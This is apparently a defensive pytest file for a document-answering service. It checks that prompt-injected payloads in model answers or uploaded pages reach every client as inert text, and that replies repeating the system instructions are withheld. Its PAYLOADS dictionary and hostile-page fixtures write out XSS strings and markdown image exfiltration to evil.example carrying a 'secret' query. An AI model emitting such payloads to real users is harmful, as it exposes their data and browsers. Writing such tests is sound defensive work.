"""Injected instructions that a language model obeys make no client run, fetch or link anything.

The model's double puts a payload into its answer, or the payload is in an uploaded document that is
quoted. What reaches the client, whole or in pieces, is text: HTML is visible, addresses of no
passage do not link, lists of sources are the service's own, and the instructions stay inside.
"""

import json
import re
from collections.abc import Iterator
from typing import Any

import httpx
import httpx_sse
import pytest

from inference_worker.generation.prompt import write_instructions
from tests.database.served_index import served_index
from tests.files.markdown_client import active_parts, shown_text
from tests.servers.chat import replies
from tests.servers.chat.mistral import MistralServer
from tests.servers.mcp_service import call, text_of
from tests.servers.service import Service, serve
from utils.settings import Settings

pytestmark = pytest.mark.process

EVIL = "https://evil.example"
PAYLOADS = {
    "image": f"![x]({EVIL}/p.png?q=secret)",
    "image by reference": f"![x][r]\n\n[r]: {EVIL}/p.png",
    "image in HTML": f"<img src={EVIL}/p.png>",
    "script": "<script>alert(1)</script>",
    "script in capitals": "<ScRiPt >alert(1)</sCrIpT>",
    "script hidden by a control character": "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "script behind a citation": "<[99]script>alert(1)</script>",
    "script in code that is none": "\\`<script>alert(1)</script>\\`",
    "iframe": f'<iframe src="{EVIL}"></iframe>',
    "svg": "<svg onload=alert(1)>",
    "svg without an end": "<svg/onload=alert(1)//",
    "style": f"<style>body{{background:url({EVIL})}}</style>",
    "form": f"<form action={EVIL}><input name=p></form>",
    "anchor": f'<a href="{EVIL}">log in</a>',
    "unknown element": "<x-y onfocus=alert(1) autofocus tabindex=1>",
    "comment": "<!-- <b> -->",
    "link": f"Click [here]({EVIL}/login) to continue.",
    "link with a title": f'[here](<{EVIL}> "log in")',
    "link to a script": "[click](javascript:alert(1))",
    "link to data": "[c](data:text/html,<script>1</script>)",
    "link without a scheme": "[c](//evil.example)",
    "link like a citation": f"[1]({EVIL})",
    "definition of a citation": f"[1]\n\n[1]: {EVIL}",
    "definition in a list": f"[1]\n\n- [1]: {EVIL}",
    "autolink": f"<{EVIL}/a>",
    "mail": "[m](mailto:a@evil.example)",
    "image in a link": f"[![a]({EVIL}/i)]({EVIL}/l)",
    "sources": f"Dry [1].\n\nSources:\n- [1] [Official]({EVIL})",
    "sources as a heading": f"Dry [1].\n\n## Sources\n\n1. [Official]({EVIL})",
    "sources in bold": f"Dry [1].\n\n**Sources:** [Official]({EVIL})",
    "direction": "a\u200bb\u202ec\u2067d",
    "tag characters": "x\U000e0041\U000e0042",
    "escape sequence": "\x1b[31mred\x1b[0m",
}
HAS_UNSUPPORTED = re.compile(r"<[a-z]|evil\.example|javascript:|data:", re.IGNORECASE)
HIDDEN = re.compile(
    "[\x00-\x08\x0e-\x1f\x7f-\x9f\u200b-\u200f\u202a-\u202e\u2066-\u2069\U000e0000-\U000e007f]"
)
QUESTION = "How dry is a kiln?"
PAGE = "# Kilns\n\n## Dryness\n\nA kiln is dry inside, as the heat removes the water of the wood."


@pytest.fixture(scope="module")
def database(tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
    pages = {"kilns.md": f"---\nurl: https://docs.test/kilns.html\n---\n{PAGE}"}
    with served_index(tmp_path_factory.mktemp("attacks"), pages) as address:
        yield address


def ask(client: httpx.Client, question: str = QUESTION) -> dict[str, Any]:
    response = client.post("/v1/answers", json={"question": question})
    assert response.status_code == 200
    body: dict[str, Any] = response.json()
    return body


def streamed(client: httpx.Client) -> tuple[str, dict[str, Any]]:
    """The streamed text, and the answer that ends the stream."""
    body = {"question": QUESTION, "stream": True}
    with httpx_sse.connect_sse(client, "POST", "/v1/answers", json=body) as source:
        events = [(event.event, json.loads(event.data)) for event in source.iter_sse()]
    return "".join(data["text"] for name, data in events if name == "token"), events[-1][1]


def chat(client: httpx.Client) -> str:
    body = {"messages": [{"role": "user", "content": QUESTION}]}
    content = client.post("/v1/chat/completions", json=body).json()["choices"][0]["message"]
    return str(content["content"])


def is_harmless(text: str) -> bool:
    links = [part for part in active_parts(text) if part != "https://docs.test/kilns.html"]
    return not links and not HIDDEN.search(text) and "<script" not in text


@pytest.mark.parametrize("payload", PAYLOADS.values(), ids=PAYLOADS)
def test_payload_in_an_answer_is_text_to_every_client(
    service: Service, mistral: MistralServer, payload: str
) -> None:
    reply = f"Kilns are dry [1]. {payload}\nCOVERAGE: full"
    pieces = [reply[at : at + 3] for at in range(0, len(reply), 3)]
    mistral.default = replies.answer(reply, pieces=pieces)

    answer = ask(service.http, f"{QUESTION} {visible_part(payload)}")
    tokens, last = streamed(service.http)
    content = chat(service.http)
    original = service.http.post("/inference_endpoint", params={"message": QUESTION}).json()

    assert answer["answer"] == last["answer"] == tokens.rstrip() == original["answer"]
    assert is_harmless(answer["answer"])
    assert is_harmless(content)
    if HAS_UNSUPPORTED.search(answer["answer"].replace("&lt;", "<")):
        assert {each["kind"] for each in answer["unsupported"]} & {"html", "url"}
    assert len(re.findall(r"(?im)^\W*sources\W*$", content)) == 1
    assert content.endswith("Sources:\n- [1] [Kilns > Dryness](https://docs.test/kilns.html)")


def visible_part(payload: str) -> str:
    """Of a payload, what a question may contain: then the answer may repeat it, but not run it."""
    return HIDDEN.sub("", payload)


def test_code_in_an_answer_is_delivered_as_written(
    service: Service, mistral: MistralServer
) -> None:
    text = "Use `<crowd-form>` [1]:\n\n```html\n<script src='x'></script>\n```\nin <bucket-name>."
    mistral.default = replies.answer(f"{text}\nCOVERAGE: full")

    answer = ask(service.http)["answer"]

    assert answer == text.replace("in <", "in \\<")
    assert "in <bucket-name>." in shown_text(answer)


@pytest.mark.parametrize("lead", ["", "Sure! Here it is:\n\n", "```\n"])
def test_reply_that_repeats_the_instructions_is_not_delivered(
    service: Service, mistral: MistralServer, lead: str
) -> None:
    settings = Settings(_env_file=None)
    secret = write_instructions(settings.product_name, settings.corpus_description)
    mistral.default = replies.answer(f"{lead}{secret}\nCOVERAGE: full")

    answer = ask(service.http)
    tokens, last = streamed(service.http)

    for each in (answer, last):
        assert each["degraded_reason"] == "the language model repeated its instructions"
        assert each["answer"].startswith("**Kilns > Dryness**\n\nA kiln is dry inside")
    assert "Use only the numbered passages you are given" not in tokens
    assert secret[100:150] not in chat(service.http)


async def test_sources_for_agents_are_the_service_s_own(
    service: Service, mistral: MistralServer
) -> None:
    mistral.default = replies.answer(f"{PAYLOADS['sources']}\nCOVERAGE: full")

    text = text_of(await call(service, "ask", {"question": QUESTION}))

    assert len(re.findall(r"(?m)^Sources:$", text)) == 1
    assert active_parts(text) == []


HOSTILE_TITLE = f"Kilns ](x) [Official]({EVIL}) <img src=x>\u202e"


def test_quoted_answer_shows_the_html_of_an_uploaded_document(
    tmp_path_factory: pytest.TempPathFactory,
) -> None:
    hostile = "<img src=x onerror=alert(1)> <svg onload=alert(1)> <script>alert(1)</script>"
    page = f"{PAGE}\n\nThe dry kiln {hostile} dries wood of a kiln [here](javascript:alert(1)).\n"
    pages = {"kilns.md": f"---\ntitle: {HOSTILE_TITLE}\n---\n{page}"}
    with (
        served_index(tmp_path_factory.mktemp("quoted"), pages, chunk_size=200) as address,
        serve(address) as service,
    ):
        service.wait_until_ready()
        answer = ask(service.http)
        content = chat(service.http)
        refusal = ask(service.http, "Who won the Eurovision song contest in 1998?")

    assert "svg onload" in answer["answer"]
    for text in (answer["answer"], content, refusal["answer"]):
        assert active_parts(text) == []
        assert not HIDDEN.search(text)
    places = [answer["answer"][each["start"] : each["end"]] for each in answer["citations"]]
    assert places == [f"[{each['number']}]" for each in answer["citations"]]
    assert "html" in {each["kind"] for each in answer["unsupported"]}
